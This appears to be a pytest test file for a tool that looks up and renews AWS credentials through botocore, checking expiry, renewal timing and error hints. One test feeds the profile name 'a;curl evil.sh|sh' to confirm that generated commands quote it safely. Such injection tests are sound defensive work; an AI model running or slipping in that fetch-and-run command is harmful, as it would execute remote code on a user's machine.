from __future__ import annotations

from datetime import datetime, timedelta, timezone

import pytest
from botocore.credentials import Credentials as Fixed
from botocore.credentials import RefreshableCredentials
from support.clock import FakeClock

from nb_presign.aws.place import Place
from nb_presign.aws.signer.credentials import glance, look, mend, no_credentials
from nb_presign.errors import CredentialsExpiredError, NoCredentialsError

HERE = Place("work")
NOW = datetime(2030, 1, 1, tzinfo=timezone.utc)


class Session:
    """A session with these credentials."""

    def __init__(self, found):
        self.found = found
        self.asked = 0

    def get_credentials(self):
        self.asked += 1
        self._credentials = self.found
        return self.found


def renewable(left, *, then=timedelta(hours=1)):
    """Make credentials of botocore's that have so much time left, and what they become."""
    renewed = {
        "access_key": "new",
        "secret_key": "new",
        "token": "new",
        "expiry_time": (NOW + then).isoformat(),
    }
    return RefreshableCredentials(
        "old",
        "old",
        "old",
        NOW + left,
        lambda: renewed,
        "assume-role",
        time_fetcher=lambda: NOW,
    )


def looked(found, **options):
    return look(Session(found), HERE, FakeClock(NOW), **options)


def test_fixed_ones_have_no_end():
    found = looked(Fixed("id", "secret", method="env"))
    assert (found.expires_at, found.method) == (None, "env")


@pytest.mark.parametrize(
    ("left", "fresh_for", "renewed"),
    [
        (timedelta(hours=2), 0, False),
        (timedelta(minutes=16), 300, False),
        (timedelta(minutes=14), 0, True),
        (timedelta(minutes=30), 3600, True),
        (timedelta(seconds=-5), 0, True),
    ],
)
def test_they_are_renewed_in_time(left, fresh_for, renewed):
    found = looked(renewable(left), fresh_for=fresh_for)
    assert found.expires_at == NOW + (timedelta(hours=1) if renewed else left)


def test_those_that_botocore_would_use_but_have_expired_here():
    credentials = renewable(timedelta(hours=1))
    with pytest.raises(CredentialsExpiredError, match="--profile work") as told:
        look(Session(credentials), HERE, FakeClock(NOW + timedelta(hours=2)))
    assert told.value.fields["method"] == "assume-role"


def test_none():
    with pytest.raises(NoCredentialsError, match=r"'work'.*aws sso login --profile work"):
        looked(None)


class TestGlancing:
    def at(self, session, fresh_for=0.0):
        return glance(session, HERE, FakeClock(NOW), fresh_for=fresh_for)

    def test_nothing_is_looked_for(self):
        session = Session(Fixed("id", "secret", method="env"))
        assert self.at(session) is None
        assert not session.asked

    def test_what_was_found_is_told(self):
        for found in (Fixed("id", "secret", method="env"), renewable(timedelta(hours=1))):
            session = Session(found)
            told = look(session, HERE, FakeClock(NOW))
            assert self.at(session) == told

    @pytest.mark.parametrize(("left", "fresh_for"), [(14 * 60, 0), (30 * 60, 3600)])
    def test_nothing_is_renewed(self, left, fresh_for):
        session = Session(renewable(timedelta(seconds=left)))
        session._credentials = session.found
        assert self.at(session, fresh_for) is None
        assert not session.found._refresh_lock.locked()
        assert session.found._expiry_time == NOW + timedelta(seconds=left)

    def test_nothing_is_renewed_after_a_look_for_longer(self):
        # A chained role's: half an hour is all that there is, though an hour was asked for.
        session = Session(renewable(timedelta(minutes=20), then=timedelta(minutes=30)))
        told = look(session, HERE, FakeClock(NOW), fresh_for=3600)
        session.found._refresh_using = None
        assert self.at(session, 300) == told
        assert session.found.get_frozen_credentials().access_key == "new"

    def test_botocores_own_wish_to_renew_is_not_fulfilled(self):
        session = Session(renewable(timedelta(minutes=30)))
        session._credentials = session.found
        session.found._advisory_refresh_timeout = 3600
        session.found._refresh_using = None
        assert self.at(session, 300).expires_at == NOW + timedelta(minutes=30)


def test_commands_hold_a_profile_as_one_word():
    place = Place("a;curl evil.sh|sh")
    for hint in (mend("", place), mend("sso", place), no_credentials(place).hint):
        assert " --profile 'a;curl evil.sh|sh'" in hint


def test_a_botocore_that_keeps_its_facts_elsewhere():
    class Other:
        method = None

        def refresh_needed(self):
            return False

        def get_frozen_credentials(self):
            return ()

    found = looked(Other(), fresh_for=600)
    assert (found.expires_at, found.method) == (None, "")


def test_a_time_without_a_zone_is_utc():
    credentials = Fixed("id", "secret", method="env")
    credentials._expiry_time = datetime(2030, 1, 2)  # noqa: DTZ001  # that is the point
    assert looked(credentials).expires_at == datetime(2030, 1, 2, tzinfo=timezone.utc)
